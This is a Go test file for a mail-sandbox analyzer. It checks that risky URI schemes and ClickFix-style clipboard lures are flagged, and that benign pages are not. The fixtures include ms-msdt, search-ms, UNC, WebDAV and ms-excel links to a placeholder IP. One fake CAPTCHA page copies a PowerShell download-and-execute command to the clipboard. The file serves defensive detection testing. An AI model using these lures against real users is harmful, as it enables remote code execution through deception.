package script

import (
	"testing"

	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
	"github.com/airlockmail/airlock/verdict"
)

func TestRiskyURIs(t *testing.T) {
	for _, tc := range []struct {
		page string
		rule string
		min  verdict.Severity
	}{
		{`<a href="ms-msdt:/id PCWDiagnostic /skip force">x</a>`, "risky-uri-ms-msdt", verdict.Critical},
		{`<script>location.href = 'search-ms:query=a&crumb=location:\\\\198.51.100.1@80\\DavWWWRoot\\x'</script>`, "risky-uri-search-ms", verdict.High},
		{`<img src="\\198.51.100.1\share\p.png">`, "risky-uri-unc", verdict.High},
		{`<a href = "https://198.51.100.1@SSL/DavWWWRoot/x.lnk">x</a>`, "risky-uri-webdav", verdict.High},
		{`<iframe src="ms-excel:ofe|u|https://198.51.100.1/a.xlsm"></iframe>`, "risky-uri-ms-excel", verdict.High},
	} {
		f := &rules.Findings{Analyzer: "script"}
		riskyURIs(tc.page, f)
		ok := false
		for _, x := range f.List() {
			ok = ok || x.Rule == tc.rule && x.Severity >= tc.min && x.Evidence != ""
		}
		if !ok {
			t.Errorf("%s: want %s >= %s, got %+v", tc.page, tc.rule, tc.min, f.List())
		}
	}
	for _, page := range []string{
		`<p>Search: type a name. File: attach it. See ms-word docs.</p>`,
		`<a href="https://example.org/search?q=ms-msdt">about Follina</a>`,
		`<script src="//cdn.example.org/a.js"></script><a href="mailto:a@example.org">m</a>`,
		`<script>var p = "C:\\Users\\Public";</script>`,
	} {
		f := &rules.Findings{Analyzer: "script"}
		riskyURIs(page, f)
		if len(f.List()) > 0 {
			t.Errorf("%s: want nothing, got %+v", page, f.List())
		}
	}
}

func TestClipboardCommands(t *testing.T) {
	risky := `<html><body><p>Verify you are human: press Win+R, paste, press Enter.</p><script>
function verify() { navigator.clipboard.writeText("pow" + "ershell -w h -c \"iex(irm 'http://198.51.100.9/c')\" # I am not a robot"); }
</script><button onclick="verify()">I'm not a robot</button></body></html>`
	f := &rules.Findings{Analyzer: "script"}
	clipboardCommands(risky, f)
	if !f.Has("clipboard-command") || !f.Has("download-cradle") {
		t.Errorf("ClickFix page: %+v", f.List())
	}
	benign := `<html><body><pre id="c">git clone https://example.org/repo.git</pre><script>
document.getElementById("b").onclick = function () { navigator.clipboard.writeText("pip install requests"); };
var help = "Run powershell -Command Get-Date to check the clock";
</script></body></html>`
	f = &rules.Findings{Analyzer: "script"}
	clipboardCommands(benign, f)
	if len(f.List()) > 0 {
		t.Errorf("copy button page: %+v", f.List())
	}
}
